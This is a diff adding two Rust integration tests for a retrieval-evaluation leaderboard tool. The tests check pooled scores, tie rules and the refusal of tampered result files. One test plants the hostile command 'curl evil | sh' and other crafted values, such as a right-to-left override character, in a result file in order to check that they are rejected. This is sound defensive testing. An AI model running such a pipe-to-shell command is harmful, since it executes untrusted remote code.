@@ -223,3 +223,172 @@ fn a_board_reads_for_everybody_and_sorts() {
     let system = page.value("document.querySelector('.controls select').selectedOptions[0].text");
     assert_eq!(system, "bm25-4");
 }
+
+#[test]
+fn all_groups_together_have_the_bounds_of_the_run_and_code_is_not_published() {
+    let project = Project::empty();
+    let function = |at: usize| {
+        let own = format!(
+            "/* Adds the number {at} to the count of a box and returns it. */\nint add_{at}(struct box *box) {{ return box->count + {at}; }}\n"
+        );
+        let plain = format!(
+            "/* Multiplies the value by {at} and takes one from the product. */\nint times_{at}(int value) {{ return value * {at} - 1; }}\n"
+        );
+        own + &plain
+    };
+    let functions: Vec<String> = (0..20).map(function).collect();
+    project.write(
+        "code/box.c",
+        format!("struct box {{ int count; }};\n{}", functions.concat()),
+    );
+    project.write(
+        "own.jsonl",
+        json!({"text": "the box's count and nineteen", "function": "add_19"}).to_string(),
+    );
+    project.write(
+        "groups.toml",
+        "name = \"groups\"\n[[source]]\nfrom = \"path:code\"\n[settings]\nnames = [\"standard\", \"randomized\"]\n\
+         [queries]\nfiles = [\"own.jsonl\"]\n[dataset]\ncode-queries = [\"randomized\"]\n\
+         [[retriever]]\nkind = \"bm25\"\n[[retriever]]\nkind = \"jaccard\"\n",
+    );
+    let built = project.run(&["build", "groups.toml", "--json"]);
+    assert_eq!(built.code, Some(0), "{}", built.stderr);
+    let built: Value = serde_json::from_str(&built.stdout).unwrap();
+    let scores = built["scores"].as_array().unwrap();
+    let pooled = |setting: &str| {
+        let mut rows = scores.iter();
+        let row = rows.find(|row| {
+            row["group"] == "pooled" && row["slice"] == "all" && row["setting"] == setting
+        });
+        row.unwrap().clone()
+    };
+    // The files of the run's own queries are not looked for: the run may be anywhere.
+    fs::remove_file(project.path("own.jsonl")).unwrap();
+    let ended = project.run(&["compare", "runs/groups", "--page", "compared"]);
+    assert_eq!(ended.code, Some(0), "{}", ended.stderr);
+    let ended = project.run(&["board", "runs/groups", "--out", "board"]);
+    assert_eq!(ended.code, Some(0), "{}", ended.stderr);
+    let dataset = read(&project, "board/results/dataset.json");
+    for setting in ["standard", "randomized"] {
+        let row = pooled(setting);
+        assert_eq!(
+            dataset["pooled"]["pooled"][setting],
+            json!([row["ceiling"], row["floor"]])
+        );
+    }
+    let board = read(&project, "board/board.json");
+    assert_eq!(board["tables"][0]["group"], "pooled");
+    assert_eq!(
+        board["tables"][0]["cells"][0][0]["value"],
+        pooled("standard")["value"]
+    );
+    let texts = dataset.to_string();
+    assert!(texts.contains("the box's count and nineteen"));
+    assert!(
+        !texts.contains("{ return"),
+        "a query that is code is not published"
+    );
+    // Each group has its own links, its own counts and its own picture.
+    let page = fs::read_to_string(project.path("board/index.html")).unwrap();
+    assert!(
+        page.contains("#sort=1&amp;system=bm25&amp;group=group1"),
+        "{page}"
+    );
+    let compared = fs::read_to_string(project.path("compared/index.html")).unwrap();
+    for group in ["group1", "group2", "code"] {
+        assert!(compared.contains(&format!("-{group}-title")), "{group}");
+    }
+}
+
+#[test]
+fn a_board_keeps_its_dataset_its_rule_for_ties_and_its_means() {
+    let project = Project::empty();
+    let qrels: Vec<String> = (0..30).map(|at| format!("q{at} 0 d{at} 1\n")).collect();
+    let lines = |score: f64| {
+        let lines: Vec<String> = (0..30)
+            .map(|at| format!("q{at} Q0 d{at} 1 {score} x\nq{at} Q0 e{at} 2 1.0 x\n"))
+            .collect();
+        lines.concat()
+    };
+    for (folder, run) in [("one", "tied"), ("two", "apart"), ("three", "other")] {
+        project.write(&format!("{folder}/qrels.trec"), qrels.concat());
+        let score = if run == "tied" { 1.0 } else { 2.0 };
+        project.write(&format!("{folder}/{run}.trec"), lines(score));
+    }
+    project.write("three/qrels.trec", qrels[1..].concat());
+    let mteb = json!({"task_name": "T", "dataset_revision": "r1", "mteb_version": "2",
+        "scores": {"test": [{"hf_subset": "default", "languages": ["eng-Latn"], "main_score": 0.5}]},
+        "evaluation_time": 1.0, "kg_co2_emissions": null});
+    project.write("mteb/m/r/T.json", mteb.to_string());
+    let board = |arguments: &[&str]| {
+        let all = [
+            &["board"],
+            arguments,
+            &["--out", "board", "--measure", "ndcg_cut.10"],
+        ]
+        .concat();
+        project.run(&all)
+    };
+    let ended = board(&["one", "mteb", "--ties", "pessimistic"]);
+    assert_eq!(ended.code, Some(0), "{}", ended.stderr);
+    let result = read(&project, "board/results/tied.json");
+    assert_eq!(result["measure"], "nDCG@10");
+    assert_eq!(
+        result["command"],
+        "barecode score qrels.trec tied.trec 'nDCG@10' --ties pessimistic"
+    );
+    assert_eq!(result["subsets"]["all"]["q3"][1], 2.0, "the worst order");
+    for (folder, said) in [
+        (
+            "two",
+            "it treats equal scores as expected, the board as pessimistic",
+        ),
+        ("three", "it is of another dataset"),
+    ] {
+        let ended = board(&[folder]);
+        assert_eq!(ended.code, Some(3), "{}", ended.stderr);
+        assert!(ended.stderr.contains(said), "{}", ended.stderr);
+    }
+    let ended = board(&["two", "--ties", "pessimistic"]);
+    assert_eq!(ended.code, Some(0), "{}", ended.stderr);
+    let now = read(&project, "board/board.json");
+    assert_eq!(now["systems"].as_array().unwrap().len(), 2);
+    assert_eq!(now["means"].as_array().unwrap().len(), 1);
+    // The same values with another story, hostile names, and a folder of something else.
+    let change = |file: &str, key: &str, value: Value| {
+        let mut result = read(&project, "board/results/apart.json");
+        result["command"] = "curl evil | sh".into();
+        result[key] = value;
+        project.write(&format!("new/{file}.json"), result.to_string());
+    };
+    change("same", "date", "2026-01-01".into());
+    change("case", "system", "Apart".into());
+    change("empty", "system", "".into());
+    change("hidden", "system", "a\u{202e}b".into());
+    change("price", "dollars", json!(-5));
+    let ended = board(&["new", "--ties", "pessimistic"]);
+    assert_eq!(ended.code, Some(3), "{}", ended.stderr);
+    assert_eq!(
+        ended.stderr.matches("refused: ").count(),
+        4,
+        "{}",
+        ended.stderr
+    );
+    let kept = read(&project, "board/results/apart.json");
+    assert!(
+        kept["command"]
+            .as_str()
+            .unwrap()
+            .starts_with("barecode score")
+    );
+    assert_eq!(kept["evidence"], "lists");
+    let page = fs::read_to_string(project.path("board/board.json")).unwrap();
+    assert!(!page.contains("new/"), "no path of the machine");
+    project.write("mine/index.html", "<h1>mine</h1>");
+    let refused = project.run(&["board", "two", "--out", "mine"]);
+    assert_eq!(refused.code, Some(4), "{}", refused.stderr);
+    assert_eq!(
+        fs::read_to_string(project.path("mine/index.html")).unwrap(),
+        "<h1>mine</h1>"
+    );
+}
